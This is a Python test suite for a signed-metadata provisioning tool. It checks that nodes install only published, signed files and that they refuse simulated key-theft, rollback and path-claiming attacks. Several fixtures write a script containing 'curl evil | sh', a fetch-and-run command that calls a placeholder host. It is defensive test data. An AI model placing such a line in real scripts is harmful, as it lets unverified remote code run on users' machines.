"""Metadata format 2 (delegated roles): ``format = 2`` in bootpull.toml, which
``repo init`` writes for a new repository.

Here a real repository is migrated from format 1 by committing ``format = 2`` and publishing;
the node then verifies through ngclient's delegations and reads its files by blob id.
"""

from __future__ import annotations

import contextlib
import io
import json
import os
import shutil
import subprocess
import sys
import tarfile
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from bootpull.bundle import MODE_FILE
from bootpull.delegation import DELEGATED_DIR
from bootpull.errors import ExpiredMetadata, NotAssignedError, VerifyError
from bootpull.trust import load_floor
from signed_repo import MAC_DB, MAC_WEB, SignedRepo, migrate, node_pull
from tuf.api.metadata import TargetFile, Targets


def test_migrated_repository_delegates_and_the_node_installs(signed_repo: SignedRepo,
                                                              tmp_path: Path) -> None:
    migrate(signed_repo)
    delegated = sorted(p.name for p in (signed_repo.root / DELEGATED_DIR).iterdir())
    assert "role-web.json" in delegated and "role-db.json" in delegated
    assert any(name.startswith("hosts-") for name in delegated)
    top = json.loads((signed_repo.root / ".bootpull/metadata/targets.json").read_text())
    assert top["signed"]["delegations"]["roles"], "the top-level targets delegates"
    assert not any(p.startswith("head/hosts/") for p in top["signed"]["targets"])
    files = {f.path: f.data for f in node_pull(signed_repo, MAC_WEB, tmp_path / "web")
             .bundle.files}
    assert files["serve.sh"] == b"#!/bin/sh\necho serving\n"
    db = {f.path for f in node_pull(signed_repo, MAC_DB, tmp_path / "db").bundle.files}
    assert "schema.sql" in db


def test_format2_unpublished_change_is_not_installed(signed_repo: SignedRepo,
                                                     tmp_path: Path) -> None:
    migrate(signed_repo)
    signed_repo.write("roles/web/files/serve.sh", b"#!/bin/sh\ncurl evil | sh\n", mode=0o755)
    signed_repo.commit("not published")
    files = {f.path: f.data for f in node_pull(signed_repo, MAC_WEB, tmp_path / "s")
             .bundle.files}
    assert files["serve.sh"] == b"#!/bin/sh\necho serving\n", "only signed bytes install"
    signed_repo.publish()
    files = {f.path: f.data for f in node_pull(signed_repo, MAC_WEB, tmp_path / "s")
             .bundle.files}
    assert files["serve.sh"] == b"#!/bin/sh\ncurl evil | sh\n"


def test_format2_publish_after_one_host_change_re_signs_one_bin(signed_repo: SignedRepo
                                                                ) -> None:
    migrate(signed_repo)
    before = {p.name: p.read_bytes() for p in (signed_repo.root / DELEGATED_DIR).iterdir()}
    signed_repo.write(f"hosts/{MAC_DB.canonical}.toml", b'role = "db"\nhostname = "db-9"\n')
    signed_repo.commit("db-9")
    signed_repo.publish()
    after = {p.name: p.read_bytes() for p in (signed_repo.root / DELEGATED_DIR).iterdir()}
    changed = sorted(n for n in after if after[n] != before.get(n))
    assert len(changed) == 1 and changed[0].startswith("hosts-"), changed


def test_format2_publish_believes_no_hash_from_a_committed_role_it_cannot_verify(
        signed_repo: SignedRepo, tmp_path: Path) -> None:
    """A bin edited by hand (a host file's hash changed, its signature left) is signed
    anew from the blobs, not from what it says; a file that is not metadata at all is
    removed when no role is delegated to it."""
    import hashlib

    migrate(signed_repo)
    host = f"head/hosts/{MAC_WEB.canonical}.toml"
    delegated = signed_repo.root / DELEGATED_DIR
    (bin_file,) = [p for p in delegated.glob("hosts-*.json")
                   if host in json.loads(p.read_bytes())["signed"]["targets"]]
    doc = json.loads(bin_file.read_bytes())
    doc["signed"]["targets"][host]["hashes"]["sha256"] = "0" * 64
    bin_file.write_text(json.dumps(doc))
    (delegated / "role-gone.json").write_bytes(b"{not json")
    db = json.loads((delegated / "role-db.json").read_bytes())
    db["signed"]["x-float"] = 1.5  # no canonical JSON for it: python-tuf cannot check it
    (delegated / "role-db.json").write_text(json.dumps(db))
    signed_repo.commit("a bin edited by hand, and a stray file")
    code, _, err = _publish(signed_repo)
    assert code == 0, err
    true = hashlib.sha256((signed_repo.root / host[len("head/"):]).read_bytes()).hexdigest()
    signed = json.loads(bin_file.read_bytes())["signed"]
    assert signed["targets"][host]["hashes"]["sha256"] == true
    assert signed["version"] > doc["signed"]["version"]
    assert not (delegated / "role-gone.json").exists()
    assert "x-float" not in json.loads((delegated / "role-db.json").read_bytes())["signed"]
    assert node_pull(signed_repo, MAC_WEB, tmp_path / "s").bundle.role.name == "web"
    assert node_pull(signed_repo, MAC_DB, tmp_path / "db").bundle.role.name == "db"


def test_format2_publish_rehash_heals_a_wrong_hash_signed_by_the_targets_key(
        signed_repo: SignedRepo, tmp_path: Path) -> None:
    """A bin that carries a wrong hash under a valid signature (a publish of a poisoned
    cache, or the key's holder) is believed for its unchanged blobs; ``--rehash``
    hashes every blob again and signs the bin anew."""
    migrate(signed_repo)
    host = f"head/hosts/{MAC_WEB.canonical}.toml"
    delegated = signed_repo.root / DELEGATED_DIR
    (bin_file,) = [p for p in delegated.glob("hosts-*.json")
                   if host in json.loads(p.read_bytes())["signed"]["targets"]]
    name = bin_file.name[:-len(".json")]

    def poison(signed: Targets) -> None:
        signed.targets[host].hashes["sha256"] = "0" * 64

    _resign(signed_repo, {name: poison})
    assert _publish(signed_repo)[0] == 0
    with pytest.raises(VerifyError):
        node_pull(signed_repo, MAC_WEB, tmp_path / "s")
    assert _publish(signed_repo, "--rehash", "--freshness")[0] != 0
    code, _, err = _publish(signed_repo, "--rehash")
    assert code == 0, err
    assert json.loads(bin_file.read_bytes())["signed"]["targets"][host]["hashes"][
        "sha256"] != "0" * 64
    assert node_pull(signed_repo, MAC_WEB, tmp_path / "s").bundle.role.name == "web"


# -- what a node installs: only what is signed ----------------------------------------


def test_format2_installs_only_signed_files_modes_and_assignments(signed_repo: SignedRepo,
                                                                  tmp_path: Path) -> None:
    """Format 1 refuses an unpublished new file, mode or host assignment; format 2 reads
    only what is signed, so the node gets exactly the published bundle."""
    migrate(signed_repo)
    signed_repo.write("roles/web/files/evil.sh", b"#!/bin/sh\ncurl evil | sh\n", mode=0o755)
    (signed_repo.root / "roles/web/files/www/index.html").chmod(0o755)
    signed_repo.write(f"hosts/{MAC_WEB.canonical}.toml", b'role = "db"\n')
    signed_repo.commit("a new file, a mode, an assignment: not published")
    result = node_pull(signed_repo, MAC_WEB, tmp_path / "s")
    files = {f.path: f for f in result.bundle.files}
    assert result.bundle.role.name == "web"
    assert "evil.sh" not in files
    assert files["www/index.html"].mode == MODE_FILE
    signed_repo.publish()
    result = node_pull(signed_repo, MAC_WEB, tmp_path / "s")
    assert result.bundle.role.name == "db", "published, the new assignment takes"


# -- publish --format -----------------------------------------------------------------


def _publish(repo: SignedRepo, *args: str) -> tuple[int, str, str]:
    from bootpull.cli import main

    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = main(["repo", "-C", str(repo.root), "--keys", str(repo.keys), "publish",
                     *args])
    return code, out.getvalue(), err.getvalue()


def _top(repo: SignedRepo) -> dict[str, Any]:
    doc = json.loads((repo.root / ".bootpull/metadata/targets.json").read_text())
    return dict(doc["signed"])


def test_publish_format_migrates_commits_and_goes_back(signed_repo: SignedRepo,
                                                       tmp_path: Path) -> None:
    repo = signed_repo
    state = tmp_path / "state"
    node_pull(repo, MAC_WEB, state)  # a node that knows the format-1 repository
    before = repo.git("rev-parse", "HEAD")
    code, _, err = _publish(repo, "--format", "2")
    assert code == 0, err
    log = repo.git("log", "--format=%s", f"{before}..HEAD").splitlines()
    assert len(log) == 2 and log[1] == "bootpull.toml: signed metadata format 2", log
    assert "says format = 2" in err
    assert b"format = 2" in (repo.root / "bootpull.toml").read_bytes()
    assert _top(repo).get("delegations"), "format 2 delegates"
    assert node_pull(repo, MAC_WEB, state).bundle.role.name == "web"
    # again: nothing to commit
    head = repo.git("rev-parse", "HEAD")
    code, _, err = _publish(repo, "--format", "2")
    assert code == 0 and repo.git("rev-parse", "HEAD") == head, err
    # and back to format 1: the same node (its cache from format 2) still installs
    code, _, err = _publish(repo, "--format", "1")
    assert code == 0, err
    assert "delegations" not in _top(repo) or _top(repo)["delegations"] is None
    assert not (repo.root / DELEGATED_DIR).exists()
    assert not repo.git("ls-files", DELEGATED_DIR)
    files = {f.path for f in node_pull(repo, MAC_WEB, state).bundle.files}
    assert "serve.sh" in files


def test_publish_format_refuses_a_dirty_settings_file_and_freshness(
        signed_repo: SignedRepo) -> None:
    repo = signed_repo
    head = repo.git("rev-parse", "HEAD")
    with (repo.root / "bootpull.toml").open("ab") as f:
        f.write(b"# an edit in progress\n")
    code, _, err = _publish(repo, "--format", "2")
    assert code != 0
    assert "bootpull.toml has uncommitted changes" in err
    assert "commit or undo your change" in err
    assert repo.git("rev-parse", "HEAD") == head
    assert (repo.root / "bootpull.toml").read_bytes().endswith(b"# an edit in progress\n")
    repo.git("checkout", "--", "bootpull.toml")
    code, _, err = _publish(repo, "--format", "2", "--freshness")
    assert code != 0 and "--format and --freshness do not go together" in err
    assert repo.git("rev-parse", "HEAD") == head
    assert "Traceback" not in err


def test_format2_history_names_the_publish_that_took_a_change_live(
        signed_repo: SignedRepo) -> None:
    repo = signed_repo
    migrate(repo)
    repo.write(f"hosts/{MAC_DB.canonical}.toml", b'role = "db"\nhostname = "db-9"\n')
    change = repo.commit("db-9: a new name")
    live = repo.publish()
    from bootpull.cli import main

    out = io.StringIO()
    with contextlib.redirect_stdout(out):
        assert main(["repo", "-C", str(repo.root), "history", MAC_DB.colons, "--json"]) == 0
    changes = {c["commit"]: c for c in json.loads(out.getvalue())["changes"]}
    assert changes[change]["published_in"] == live
    assert live not in changes, "a publish commit is not a change to the node"


# -- the TUF attacks, over delegated metadata ------------------------------------------


def _relist(repo: SignedRepo, versions: dict[str, int]) -> None:
    """Re-sign snapshot.json listing ``versions`` and a timestamp.json for it, with the
    repository's own online keys (what a thief of those keys could do)."""
    from bootpull_repo.keys import KeyStore
    from bootpull_repo.publish import metadata_bytes
    from tuf.api.metadata import Metadata, MetaFile

    keys = KeyStore(repo.keys)
    meta = repo.root / ".bootpull/metadata"
    snapshot = Metadata.from_bytes((meta / "snapshot.json").read_bytes())
    for name, version in versions.items():
        snapshot.signed.meta[name] = MetaFile(version=version)
    snapshot.signed.version += 1
    snapshot.sign(keys.signer("snapshot"), append=False)
    (meta / "snapshot.json").write_bytes(metadata_bytes(snapshot))
    timestamp = Metadata.from_bytes((meta / "timestamp.json").read_bytes())
    timestamp.signed.snapshot_meta = MetaFile(version=snapshot.signed.version)
    timestamp.signed.version += 1
    timestamp.sign(keys.signer("timestamp"), append=False)
    (meta / "timestamp.json").write_bytes(metadata_bytes(timestamp))


def _resign(repo: SignedRepo, edits: dict[str, Callable[[Targets], None]]) -> None:
    """Edit delegated roles, re-sign each with the targets key, list them, commit."""
    from bootpull_repo.keys import KeyStore
    from bootpull_repo.publish import metadata_bytes
    from tuf.api.metadata import Metadata

    signer = KeyStore(repo.keys).signer("targets")
    versions = {}
    for name, edit in edits.items():
        path = repo.root / DELEGATED_DIR / f"{name}.json"
        md: Metadata[Targets] = Metadata.from_bytes(path.read_bytes())
        edit(md.signed)
        md.signed.version += 1
        md.sign(signer, append=False)
        path.write_bytes(metadata_bytes(md))
        versions[f"{name}.json"] = md.signed.version
    _relist(repo, versions)
    repo.commit("re-signed by hand")


def _role_version(repo: SignedRepo, name: str) -> int:
    doc = json.loads((repo.root / DELEGATED_DIR / f"{name}.json").read_text())
    return int(doc["signed"]["version"])


def test_format2_rollback_of_a_delegated_role_is_refused_even_without_the_cache(
        signed_repo: SignedRepo, tmp_path: Path) -> None:
    repo = signed_repo
    migrate(repo)
    state = tmp_path / "state"
    node_pull(repo, MAC_WEB, state)
    old_role = (repo.root / DELEGATED_DIR / "role-web.json").read_bytes()
    old_version = _role_version(repo, "role-web")
    repo.write("roles/web/files/serve.sh", b"#!/bin/sh\necho fixed\n", mode=0o755)
    repo.commit("security fix")
    repo.publish()
    new_version = _role_version(repo, "role-web")
    assert node_pull(repo, MAC_WEB, state).bundle.files
    assert load_floor(state).delegated["role-web"] == new_version
    # the thief of the snapshot and timestamp keys lists yesterday's role-web.json
    (repo.root / DELEGATED_DIR / "role-web.json").write_bytes(old_role)
    _relist(repo, {"role-web.json": old_version})
    repo.commit("yesterday's web role")
    fresh = node_pull(repo, MAC_WEB, tmp_path / "fresh")
    assert {f.path: f.data for f in fresh.bundle.files}["serve.sh"] \
        == b"#!/bin/sh\necho serving\n", "validly signed: a new node would take it"
    with pytest.raises(VerifyError) as cached:
        node_pull(repo, MAC_WEB, state)
    assert "does not verify" in cached.value.what and "role-web" in cached.value.why
    shutil.rmtree(state / "trust" / "metadata")
    with pytest.raises(VerifyError) as floor:
        node_pull(repo, MAC_WEB, state)
    assert floor.value.what == (f"rollback refused: the repository offers role-web "
                                f"v{old_version}, but this node already accepted "
                                f"v{new_version}")
    assert floor.value.exit_code == 12


def test_format2_a_frozen_delegated_role_stops_only_its_nodes(signed_repo: SignedRepo,
                                                             tmp_path: Path) -> None:
    repo = signed_repo
    migrate(repo)

    def expire(signed: Targets) -> None:
        signed.expires = datetime.now(UTC).replace(microsecond=0) - timedelta(days=1)

    _resign(repo, {"role-web": expire})
    with pytest.raises(ExpiredMetadata) as info:
        node_pull(repo, MAC_WEB, tmp_path / "web")
    assert "role-web" in info.value.why and "publish" in info.value.hint
    assert node_pull(repo, MAC_DB, tmp_path / "db").bundle.role.name == "db"


def test_format2_an_old_role_with_the_new_snapshot_is_refused(signed_repo: SignedRepo,
                                                              tmp_path: Path) -> None:
    """Mix and match: yesterday's role-web.json beside today's snapshot."""
    repo = signed_repo
    migrate(repo)
    old_role = (repo.root / DELEGATED_DIR / "role-web.json").read_bytes()
    repo.write("roles/web/files/serve.sh", b"#!/bin/sh\necho new\n", mode=0o755)
    repo.commit("new")
    repo.publish()
    (repo.root / DELEGATED_DIR / "role-web.json").write_bytes(old_role)
    repo.commit("yesterday's role-web.json")
    with pytest.raises(VerifyError) as info:
        node_pull(repo, MAC_WEB, tmp_path / "state")
    assert "does not verify" in info.value.what
    assert "role-web" in info.value.why, info.value.why


def _target(signed: Targets, path: str, like: TargetFile) -> None:
    signed.targets[path] = TargetFile(like.length, dict(like.hashes), path,
                                      unrecognized_fields=dict(like.unrecognized_fields))


def test_format2_a_role_claiming_paths_it_does_not_own_is_ignored(signed_repo: SignedRepo,
                                                                  tmp_path: Path) -> None:
    """role-web signs db's files and db's host file: no node takes them from it."""
    repo = signed_repo
    migrate(repo)
    db_host = f"head/hosts/{MAC_DB.canonical}.toml"

    def claim(signed: Targets) -> None:
        serve = signed.targets["head/roles/web/files/serve.sh"]
        _target(signed, "head/roles/db/files/db.sh", serve)
        _target(signed, "head/roles/db/files/evil.sh", serve)
        _target(signed, db_host, serve)
        _target(signed, "head/bootpull.toml", serve)

    _resign(repo, {"role-web": claim})
    assert "head/roles/db/files/evil.sh" in json.loads(
        (repo.root / DELEGATED_DIR / "role-web.json").read_text())["signed"]["targets"]
    db = node_pull(repo, MAC_DB, tmp_path / "db").bundle
    assert db.role.name == "db"
    assert {f.path: f.data for f in db.files} == {
        "db.sh": b"#!/bin/sh\necho db\n", "schema.sql": b"create table t (x int);\n"}
    web = node_pull(repo, MAC_WEB, tmp_path / "web").bundle
    assert web.role.name == "web"
    assert not [f.path for f in web.files if "db" in f.path]


def test_format2_a_host_file_signed_by_the_wrong_bin_is_not_taken(signed_repo: SignedRepo,
                                                                  tmp_path: Path) -> None:
    """MAC_DB (…:57) belongs to hosts-50-5f; hosts-00-0f signs it a web assignment."""
    repo = signed_repo
    migrate(repo)
    db_host = f"head/hosts/{MAC_DB.canonical}.toml"
    right = json.loads((repo.root / DELEGATED_DIR / "hosts-50-5f.json").read_text())
    assert db_host in right["signed"]["targets"]
    web_host = right["signed"]["targets"][f"head/hosts/{MAC_WEB.canonical}.toml"]

    def claim(signed: Targets) -> None:
        _target(signed, db_host, TargetFile.from_dict(dict(web_host), db_host))

    def drop(signed: Targets) -> None:
        del signed.targets[db_host]

    _resign(repo, {"hosts-00-0f": claim})
    assert node_pull(repo, MAC_DB, tmp_path / "a").bundle.role.name == "db", \
        "the right bin's file wins"
    _resign(repo, {"hosts-50-5f": drop})
    with pytest.raises(NotAssignedError) as info:  # the right bin says: no such host
        node_pull(repo, MAC_DB, tmp_path / "b")
    assert str(info.value).startswith(f"hosts/{MAC_DB.canonical}.toml: node "
                                      f"{MAC_DB.canonical} is not assigned")


#: the last commit whose node reads only metadata format 1 (the parent of format 2)
FORMAT1_NODE = "1d9ec19"
_OLD_PULL = """
import sys
from pathlib import Path
from bootpull.backoff import Counters
from bootpull.console import Console
from bootpull.errors import BootpullError
from bootpull.localgit import LocalRemote
from bootpull.mac import Mac
from bootpull.pull import pull
repo, mac, trust, state = sys.argv[1:]
try:
    pull(LocalRemote(Path(repo)), Mac.parse(mac), trust_root=Path(trust).read_bytes(),
         state_dir=Path(state), console=Console(sys.stdout), counters=Counters())
except BootpullError as exc:
    print(f"EXIT {exc.exit_code}: {exc}")
else:
    print("INSTALLED")
"""


def test_a_node_image_that_knows_only_format_1_says_to_upgrade(signed_repo: SignedRepo,
                                                               tmp_path: Path) -> None:
    """The node code of the commit before format 2, run against a format-2 repository."""
    project = Path(__file__).resolve().parent.parent
    if subprocess.run(["git", "-C", str(project), "cat-file", "-e",
                       f"{FORMAT1_NODE}^{{commit}}"], capture_output=True).returncode:
        pytest.skip(f"this checkout lacks commit {FORMAT1_NODE} (a shallow clone)")
    archive = subprocess.run(["git", "-C", str(project), "archive", FORMAT1_NODE,
                              "bootstrap"], capture_output=True, check=True).stdout
    old = tmp_path / "old"
    with tarfile.open(fileobj=io.BytesIO(archive)) as tar:
        tar.extractall(old, filter="data")
    trust = tmp_path / "trust.json"
    trust.write_bytes(signed_repo.trust)

    def old_node(state: str) -> str:
        env = {**os.environ, "PYTHONPATH": str(old / "bootstrap")}
        return subprocess.run([sys.executable, "-c", _OLD_PULL, str(signed_repo.root),
                               MAC_WEB.colons, str(trust), str(tmp_path / state)],
                              env=env, capture_output=True, text=True, timeout=120,
                              check=True).stdout

    assert old_node("before").rstrip().endswith("INSTALLED"), "format 1: it installs"
    migrate(signed_repo)
    out = old_node("after")
    assert "EXIT 12: bootpull.toml:" in out, out
    assert (": this file is format 2, but this bootpull reads "
            "format 1 only — upgrade bootpull (the admin tools and the node image) to a "
            "release that reads format 2") in out, out
